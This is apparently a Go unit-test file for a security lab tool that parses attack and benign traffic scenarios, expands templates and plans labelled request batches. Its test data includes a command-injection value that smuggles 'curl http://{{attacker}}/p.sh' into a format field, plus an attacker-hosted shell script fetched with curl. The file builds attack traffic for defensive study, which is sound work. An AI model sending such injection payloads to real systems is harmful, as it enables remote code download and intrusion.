package lab

import (
	"encoding/json"
	"errors"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

func repoScenarios(t *testing.T) string {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(filepath.Dir(file), "..", "..", "..", "tests", "lab", "scenarios")
}

// TestShippedScenarios loads every scenario file in tests/lab/scenarios and
// plans a round of each, so a broken shipped file fails the unit tests.
func TestShippedScenarios(t *testing.T) {
	dir := repoScenarios(t)
	files, _ := filepath.Glob(filepath.Join(dir, "*.yaml"))
	if len(files) < 6 {
		t.Fatalf("want benign, smoke and 4 attacks in %s, found %d files", dir, len(files))
	}
	ss, err := LoadScenarios(files)
	if err != nil {
		t.Fatal(err)
	}
	pool, err := LoadScenario(filepath.Join(dir, "benign.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range ss {
		batches, err := Plan(s, 0, NewPool(pool, s.AttackedFunctions()), DefaultVars(), Seed(1, s.Name, 0))
		if err != nil {
			t.Fatalf("%s: %v", s.Name, err)
		}
		n := 0
		for _, b := range batches {
			for _, c := range b.Calls {
				n++
				if strings.Contains(c.Body, "{{") || strings.Contains(c.Path, "{{") {
					t.Errorf("%s/%s: unexpanded template in %q", s.Name, c.Step, c.Body)
				}
				if c.JSON && !json.Valid([]byte(c.Body)) {
					t.Errorf("%s/%s: body is not valid JSON: %s", s.Name, c.Step, c.Body)
				}
				if c.Mixed && c.Label != LabelBenign {
					t.Errorf("%s: mixed call labelled %s", s.Name, c.Label)
				}
				for _, f := range s.AttackedFunctions() {
					if c.Mixed && c.Function == f {
						t.Errorf("%s: mixed benign call to attacked function %s", s.Name, f)
					}
				}
			}
		}
		if n == 0 {
			t.Errorf("%s: no calls", s.Name)
		}
		for _, f := range s.Attacker {
			if _, err := Expand(string(f.Content), DefaultVars(), nil, 0); err != nil {
				t.Errorf("%s: attacker file: %v", s.Name, err)
			}
		}
	}
}

func TestParseScenario(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "p.sh"), []byte("curl http://{{attacker}}/x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		yaml    string
		wantErr string // substring; empty: must parse
		check   func(t *testing.T, s *Scenario)
	}{
		{
			name: "good with defaults",
			yaml: `
name: a1
label: attack
attacker_files:
  p.sh: {file: p.sh}
  /inline.txt: {content: "hi {{attacker}}"}
steps:
  - function: photo-receive
    body: {format: "png; curl http://{{attacker}}/p.sh"}
  - function: product-catalog-api
    label: benign
    path: "?id=1"
    repeat: 3
    delay: 250ms
    concurrency: 2
    mix_benign: 1
`,
			check: func(t *testing.T, s *Scenario) {
				st := s.Steps[0]
				if st.Label != LabelAttack || st.Method != "POST" || st.Repeat != 1 || st.Concurrency != 1 || !st.Body.JSON {
					t.Errorf("step 0 defaults: %+v", st)
				}
				if s.Steps[1].Method != "GET" || s.Steps[1].Label != LabelBenign || s.Steps[1].Delay != Duration(250e6) {
					t.Errorf("step 1: %+v", s.Steps[1])
				}
				if string(s.Attacker["/p.sh"].Content) != "curl http://{{attacker}}/x\n" || s.Attacker["/inline.txt"].ContentType != "text/plain" {
					t.Errorf("attacker files: %+v", s.Attacker)
				}
				if got := s.AttackedFunctions(); len(got) != 1 || got[0] != "photo-receive" {
					t.Errorf("attacked: %v", got)
				}
			},
		},
		{
			name: "string body that is JSON",
			yaml: "name: b\nsteps:\n  - function: f\n    body: '{\"n\": {{rand:1-3}}}'\n",
			check: func(t *testing.T, s *Scenario) {
				if !s.Steps[0].Body.JSON || s.Label != LabelBenign {
					t.Errorf("%+v", s.Steps[0].Body)
				}
			},
		},
		{name: "unknown top-level field", yaml: "name: x\nlabels: attack\nsteps: [{function: f}]\n", wantErr: "field labels not found"},
		{name: "unknown step field", yaml: "name: x\nsteps:\n  - function: f\n    repeats: 3\n", wantErr: "field repeats not found"},
		{name: "bad scenario label", yaml: "name: x\nlabel: evil\nsteps: [{function: f}]\n", wantErr: `label: "evil"`},
		{name: "bad step label", yaml: "name: x\nsteps:\n  - function: f\n  - function: g\n    label: malicious\n", wantErr: "steps[1] (line 4).label"},
		{name: "missing function", yaml: "name: x\nsteps:\n  - body: hi\n", wantErr: "steps[0] (line 3).function: required"},
		{name: "missing name", yaml: "steps: [{function: f}]\n", wantErr: "name: required"},
		{name: "no steps", yaml: "name: x\n", wantErr: "steps: at least one"},
		{name: "unknown template", yaml: "name: x\nsteps:\n  - function: f\n    body: '{{victim}}'\n", wantErr: "unknown template"},
		{name: "bad duration", yaml: "name: x\nsteps:\n  - function: f\n    delay: 5\n", wantErr: "bad duration"},
		{name: "repeat out of range", yaml: "name: x\nsteps:\n  - function: f\n    repeat: -1\n", wantErr: "repeat"},
		{name: "taints on benign", yaml: "name: x\nsteps:\n  - function: f\n    taints: true\n", wantErr: "taints"},
		{name: "file and content", yaml: "name: x\nattacker_files:\n  a: {file: p.sh, content: x}\nsteps: [{function: f}]\n", wantErr: "not both"},
		{name: "missing attacker file", yaml: "name: x\nattacker_files:\n  a: {file: nope.sh}\nsteps: [{function: f}]\n", wantErr: "attacker_files.a.file"},
		{name: "template not allowed in file", yaml: "name: x\nattacker_files:\n  a: {content: '{{rand}}'}\nsteps: [{function: f}]\n", wantErr: "only {{attacker}}"},
		{name: "syntax", yaml: "name: [\n", wantErr: "s.yaml:"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			file := filepath.Join(dir, "s.yaml")
			s, err := ParseScenario(file, []byte(tc.yaml))
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want it to contain %q", err, tc.wantErr)
				}
				var se *ScenarioError
				if !errors.As(err, &se) || se.File != file {
					t.Errorf("error %v does not name the file", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if tc.check != nil {
				tc.check(t, s)
			}
		})
	}
}

func TestExpand(t *testing.T) {
	vars := TemplateVars{Attacker: "10.66.0.2", Supplier: "10.65.0.2"}
	tests := []struct {
		in, want, wantErr string
		check             func(string) bool
	}{
		{in: "curl http://{{attacker}}/p.sh", want: "curl http://10.66.0.2/p.sh"},
		{in: "{{ supplier }}:80", want: "10.65.0.2:80"},
		{in: "n={{i}}", want: "n=7"},
		{in: "{{text:5}}", check: func(s string) bool { return len(s) == 5 && strings.Trim(s, "abcdefghijklmnopqrstuvwxyz") == "" }},
		{in: "{{rand:3-3}}", want: "3"},
		{in: "{{choose:png}}", want: "png"},
		{in: "{{text:{{rand:4-4}}}}", check: func(s string) bool { return len(s) == 4 }},
		{in: "plain {braces} stay", want: "plain {braces} stay"},
		{in: "{{rand:9-1}}", wantErr: "A <= B"},
		{in: "{{attacker:x}}", wantErr: "no argument"},
		{in: "{{nope}}", wantErr: "unknown template"},
		{in: "{{text:-1}}", wantErr: "text:N"},
	}
	for _, tc := range tests {
		got, err := Expand(tc.in, vars, rand.New(rand.NewPCG(1, 1)), 7)
		if tc.wantErr != "" {
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("Expand(%q) err = %v, want %q", tc.in, err, tc.wantErr)
			}
			continue
		}
		if err != nil {
			t.Errorf("Expand(%q): %v", tc.in, err)
			continue
		}
		if tc.check != nil && !tc.check(got) || tc.check == nil && got != tc.want {
			t.Errorf("Expand(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Same seed, same bodies.
	a, _ := Expand("{{rand}} {{text:8}} {{choose:a|b|c}}", vars, rand.New(rand.NewPCG(5, 6)), 0)
	b, _ := Expand("{{rand}} {{text:8}} {{choose:a|b|c}}", vars, rand.New(rand.NewPCG(5, 6)), 0)
	if a != b {
		t.Errorf("not deterministic: %q vs %q", a, b)
	}
}

func TestPlanMixBenign(t *testing.T) {
	pool := &Scenario{Name: "benign", Path: "/x/benign.yaml", Steps: []Step{
		{Name: "p1", Function: "photo-receive", Method: "POST", Label: LabelBenign, Repeat: 1, Concurrency: 1},
		{Name: "c1", Function: "product-catalog-api", Method: "GET", Label: LabelBenign, Repeat: 1, Concurrency: 1},
	}}
	s := &Scenario{Name: "a", Steps: []Step{{Name: "atk", Function: "photo-receive", Method: "POST", Label: LabelAttack,
		Repeat: 4, Concurrency: 1, MixBenign: 2, Body: Body{Raw: "{{attacker}}"}}}}
	bs, err := Plan(s, 0, NewPool(pool, s.AttackedFunctions()), DefaultVars(), Seed(3, "a", 0))
	if err != nil {
		t.Fatal(err)
	}
	if len(bs) != 1 || len(bs[0].Calls) != 12 {
		t.Fatalf("batches %+v", bs)
	}
	atk := 0
	for _, c := range bs[0].Calls {
		if c.Mixed {
			if c.Function != "product-catalog-api" || c.Label != LabelBenign {
				t.Errorf("mixed call %+v", c)
			}
		} else {
			atk++
			if c.Body != AttackerIP || c.Label != LabelAttack {
				t.Errorf("own call %+v", c)
			}
		}
	}
	if atk != 4 {
		t.Errorf("%d own calls, want 4", atk)
	}
}
